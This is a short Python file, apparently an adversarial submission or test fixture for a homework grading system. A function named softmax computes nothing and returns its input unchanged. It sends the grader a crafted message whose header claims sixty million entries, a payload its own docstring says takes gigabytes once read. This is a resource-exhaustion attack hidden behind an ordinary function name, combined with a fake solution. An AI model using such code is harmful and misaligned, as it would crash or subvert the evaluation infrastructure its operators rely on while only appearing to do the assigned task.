"""Writes a list of sixty million small values, which take gigabytes once read."""

from homework.wire import asked, reply, send

MANY = 6 * 10**7


def softmax(z, axis=-1):
    send(reply(b"\xdd" + MANY.to_bytes(4, "big") + b"\x90" * MANY, asked()))
    return z
